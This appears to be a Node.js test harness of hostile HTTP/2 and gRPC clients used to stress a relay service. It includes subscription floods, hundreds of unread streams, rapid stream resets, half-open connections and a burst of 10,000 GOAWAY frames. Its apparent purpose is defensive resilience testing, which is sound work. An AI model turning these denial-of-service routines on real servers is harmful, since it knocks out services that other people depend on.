// Hostile clients of a relay: see `attack-tools.cjs`. `names` has those of its clusters.
const { once } = require('node:events');
const http2 = require('node:http2');
const { setTimeout: sleep } = require('node:timers/promises');
const tools = require('./attack-tools.cjs');
const { connect, encodeRequest, openStream, PATH } = require('./discovery.cjs');

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const NO_SETTINGS = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);
/** Of HTTP/2, with no error and no stream. */
const GOAWAY = Buffer.from([0, 0, 8, 7, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
const GOAWAYS = 10_000;
const RESETS = 100;
const STREAMS = 300;
const NAMES_PER_REQUEST = 1000;
const NAMES_PER_SECOND = 10_000;

const HEADERS = {
  ':method': 'POST',
  ':path': PATH,
  te: 'trailers',
  'content-type': 'application/grpc',
};

let nameCount = 0;
const newNames = () => Array.from({ length: NAMES_PER_REQUEST }, () => `none-${nameCount++}`);

const frame = (message) => {
  const header = Buffer.alloc(5);
  header.writeUInt32BE(message.length, 1);
  return Buffer.concat([header, message]);
};

/** Sends requests on a stream that is read, and opened again when it has ended. @param next Returns the next request. */
async function sendRequests({ port, untilMs }, next, pauseMs) {
  const client = connect(port);
  const tally = { attempts: 0, refused: 0 };
  let call;
  while (Date.now() < untilMs) {
    if (call === undefined || call.isEnded) {
      call = openStream(client);
      const opened = call;
      call.resume().on('error', () => {
        opened.isEnded = true;
        tally.refused++;
      });
    }
    await new Promise((resolve) => call.write(next(), resolve));
    tally.attempts++;
    await sleep(pauseMs);
  }
  client.close();
  return tally;
}

async function resetSubscriptions(session, names) {
  const request = frame(encodeRequest('hostile', { subscribe: names }));
  for (let i = 0; i < RESETS && !session.destroyed; i++) {
    const stream = session.request(HEADERS);
    stream.on('error', tools.ignore);
    stream.write(request, () => stream.close(http2.constants.NGHTTP2_CANCEL));
  }
  await new Promise(setImmediate);
}

tools.serve({
  /** Ever other names, and none of those before. */
  subscriptions: (options) => {
    let unsubscribe = [];
    return sendRequests(
      options,
      () => {
        const subscribe = newNames();
        const request = encodeRequest('hostile', { subscribe, unsubscribe });
        unsubscribe = subscribe;
        return request;
      },
      0,
    );
  },
  names: (options) =>
    sendRequests(
      options,
      () => encodeRequest('hostile', { subscribe: newNames() }),
      (NAMES_PER_REQUEST / NAMES_PER_SECOND) * 1000,
    ),
  wildcards: (options) => sendRequests(options, () => encodeRequest('hostile', {}), 0),
  /** Streams with all clusters that read nothing. */
  async unread({ port, untilMs, names }) {
    const session = tools.openSession(port);
    const request = frame(encodeRequest('hostile', { subscribe: names }));
    const streams = Array.from({ length: STREAMS }, () => {
      const stream = session.request(HEADERS);
      stream.on('error', tools.ignore);
      stream.write(request);
      return stream;
    });
    await sleep(Math.max(0, untilMs - Date.now()));
    return { attempts: streams.length, refused: streams.filter(({ closed }) => closed).length };
  },
  resets: ({ names, ...options }) =>
    tools.repeatOnSession(options, (session) => resetSubscriptions(session, names.slice(0, 10))),
  connections: tools.connections,
  halfOpen: (options) => tools.halfOpen(options, PREFACE.slice(0, 12)),
  goaways: ({ port, untilMs }) => {
    const bytes = [Buffer.from(PREFACE), NO_SETTINGS, ...Array(GOAWAYS).fill(GOAWAY)];
    const all = Buffer.concat(bytes);
    return tools.repeat(untilMs, async () => {
      const socket = await tools.openSocket(port);
      const closed = once(socket, 'close').then(() => true);
      socket.resume();
      const isRefused = await Promise.race([
        closed,
        new Promise((resolve) => socket.write(all, () => resolve(false))),
      ]);
      socket.destroy();
      return isRefused;
    });
  },
});
